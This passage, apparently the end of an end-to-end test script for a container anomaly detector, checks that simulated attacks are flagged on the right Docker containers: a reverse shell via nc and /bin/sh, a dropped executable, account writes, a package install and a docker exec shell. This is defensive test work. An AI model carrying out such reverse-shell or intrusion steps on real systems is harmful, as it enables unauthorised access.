    expect(("reverse-shell",), "web2", "(c) reverse-shell on web2, nc then /bin/sh")
    expect(("new-peer",), "web2", "(c) new-peer on web2, the host's listener")
    expect(("package-manager",), "worker", "(d) package-manager on the worker, apk add foo-TOKEN", "foo-" + token)
    expect(("exec-session", "exec-shell"), "worker", "(e) exec-session on the worker, the docker exec shell",
           token + "-exec")
    got = set(a.get("rule") for a in A if cid_of(a) == ids["web2"]) - BASE
    check({"drop-exec", "reverse-shell"} <= got and got & {"account-write", "system-write"}
          and got <= {"drop-exec", "reverse-shell", "account-write", "system-write"},
          "web2: the attack's rules and no other beside baseline rules (%s)" % sorted(got))
    got = set(a.get("rule") for a in A if cid_of(a) == ids["worker"]) - BASE
    check("package-manager" in got and got & {"exec-session", "exec-shell"}
          and got <= {"package-manager", "exec-session", "exec-shell"},
          "worker: the attack's rules and no other beside baseline rules (%s)" % sorted(got))

    ours = set(ids.values())
    ev = [e for e in E if e.get("comm") == "runc:[2:INIT]" and e.get("syscall") in MOUNTS]
    bad = [e for e in ev if e.get("container") not in ours or e.get("actor") != "runtime"]
    check(ev and not bad, "actor: runc:[2:INIT]'s mounts (%d) are runtime work of their container (%d not)"
          % (len(ev), len(bad)), show(bad))
    ev = [e for e in E if str(e.get("comm") or "").startswith("runc:[")]
    bad = [e for e in ev if e.get("container") not in ours or e.get("actor") != "runtime"]
    check(ev and not bad, "actor: every event of runc's init stages (%d) is runtime work of its container (%d not)"
          % (len(ev), len(bad)), show(bad))
    hooks = [e for e in E if is_exec(e) and argv_has(e, "libnetwork-setkey")]
    hev, bad = [], []
    for h in hooks:
        cid = next((a for a in argv(h) if a in ours), None)
        its = [e for e in E if e.get("pid") == h.get("pid") and h["time"] <= e.get("time", 0) <= h["time"] + 5]
        hev += its
        bad += [e for e in its if cid is None or e.get("container") != cid or e.get("actor") != "runtime"]
    check(hooks and not bad, "actor: docker's libnetwork-setkey hook (%d runs, %d events) is runtime work of "
          "the container it names (%d not)" % (len(hooks), len(hev), len(bad)), show(bad))
    health = [e for e in E if is_exec(e) and "/bin/health" in argv(e)[:2]]
    hpids = set(e.get("pid") for e in health)
    kids = [e for e in E if is_exec(e) and e.get("ppid") in hpids and e.get("time", 0) >= t0]
    ev = health + kids
    bad = [e for e in ev if e.get("container") not in (ids["web1"], ids["web2"], ids["worker"])
           or e.get("actor") != "session"]
    check(health and not bad, "actor: the health checks' executions (%d) are a session in their container (%d not)"
          % (len(ev), len(bad)), show(bad))
    bad = [e for e in HE if e.get("container") is not None]
    check(HE and not bad, "the host process's events (%d) are in no container (%d are)" % (len(HE), len(bad)),
          show(bad))
    bad = [e for e in HE if e.get("actor") != "host"]
    check(HE and not bad, "actor: the host process's events are the host's (%d not)" % len(bad), show(bad))
    # For the record: who the runtime's programs were attributed to.
    tally = {}
    for e in E:
        b = str(e.get("exe") or "").rsplit("/", 1)[-1]
        c = str(e.get("comm") or "")
        if b in ("runc", "containerd-shim-runc-v2", "containerd", "dockerd", "docker", "docker-init") \
                or c.startswith("runc:["):
            k = (c if c.startswith("runc:[") else b, e.get("actor"),
                 "container" if e.get("container") in ours else "host" if e.get("container") is None else "other")
            tally[k] = tally.get(k, 0) + 1
    print("# runtime programs' events (program, actor, attributed to): count")
    for k in sorted(tally, key=str):
        print("#   %s: %d" % (k, tally[k]))


def replay():
    R = rows(T + "/replay.json")
    check(F["replay_rc"] == 0, "replay: ingest of the captured log, docker's state copied, no /proc")
    C = {c.get("id"): c for c in rows(T + "/replay-containers.json")}
    bad = ["%s: %s" % (r, (C.get(ids[r], {}).get("name"), C.get(ids[r], {}).get("image")))
           for r in ids if (C.get(ids[r], {}).get("name"), C.get(ids[r], {}).get("image"))
           != (F["names"][r], F["images"][r])]
    check(not bad, "replay: the four containers named, with their images", bad)
    pairs = lambda X: sorted(set((a.get("rule"), who(cid_of(a))) for a in X if mine(a)))
    lp, rp = pairs(A), pairs(R)
    check(lp == rp, "replay: the same (rule, container) anomalies as live",
          ["live only: %s" % sorted(set(lp) - set(rp)), "replay only: %s" % sorted(set(rp) - set(lp))])
    got = sorted(set((a.get("rule"), who(cid_of(a))) for a in R if mine(a) and (a.get("first_seen") or 0) < AT))
    check(got == [], "replay: no anomaly before the attack (%s)" % got)


LOG = set(int(m) for m in re.findall(r"msg=audit\(\d+\.\d+:(\d+)\)", open(F["log"]).read()))
{"capture": capture, "detect": detect, "replay": replay}[sys.argv[2]]()
EOP

tap_lines() {	# numbers the checker's "ok - " and "not ok - " lines
	local l
	while IFS= read -r l; do
		case $l in
		"ok - "*)
			tap_n=$((tap_n + 1))
			echo "ok $tap_n - ${l#ok - }" ;;
		"not ok - "*)
			tap_n=$((tap_n + 1))
			tap_failed=$((tap_failed + 1))
			echo "not ok $tap_n - ${l#not ok - }" ;;
		"#"*)	echo "$l" ;;
		*)	echo "# $l" ;;
		esac
	done
}
for phase in capture detect replay; do
	python3 "$TMP/check.py" "$TMP/facts.json" $phase > "$TMP/check.$phase" 2>&1
	rc=$?
	tap_lines < "$TMP/check.$phase"
	[ $rc -eq 0 ] || ok 1 "checker ($phase) ran"
done
if [ -n "$DW_E2E_DOCKER_KEEP" ]; then
	cp "$TMP/events.json" "$TMP/anomalies.json" "$TMP/replay.json" \
	    "$TMP/facts.json" "$TMP/check.py" "$DW_E2E_DOCKER_KEEP/" 2> /dev/null
fi
# The soak's figures: anomalies from the profiles' activation to the
# attack, and the attacks found (rule on the right container).
python3 - "$TMP/anomalies.json" "$t_active" "$ATTACK_AT" "$w2" "$k1" \
    "$w1" "$cr" "$soak_restarts" <<'EOP'
import json, sys
f, active, attack, web2, worker, web1, crash, restarts = sys.argv[1:9]
active, attack = float(active), float(attack)
names = {web1: "web1", web2: "web2", worker: "worker", crash: "crash"}
rows = []
for l in open(f):
    if l.strip():
        r = json.loads(l)
        rows.extend(r if isinstance(r, list) else [r])
ours = [r for r in rows if (r.get("container") or {}).get("id") in names]
soak = [r for r in ours if active <= (r.get("first_seen") or 0) < attack]
want = {("drop-exec", web2), ("account-write", web2), ("reverse-shell", web2),
        ("package-manager", worker), ("exec-session", worker)}
got = {(r["rule"], r["container"]["id"]) for r in ours
       if (r.get("first_seen") or 0) >= attack}
print("# soak: runtime=docker normal_seconds=%d anomalies_after_learning=%d"
      " attacks_found=%d/%d (web1 restarted %s times meanwhile)" % (
      attack - active, len(soak), len(want & got), len(want), restarts))
for r in soak:
    print("# soak anomaly: rule=%s container=%s first_seen=%s exe=%s argv=%s"
          " reason=%s" % (r.get("rule"), names[r["container"]["id"]],
          r.get("first_seen"), r.get("exe"), json.dumps(r.get("argv")),
          r.get("reason")))
EOP
echo "# $(( $(now) - t_begin )) s in all"
done_testing
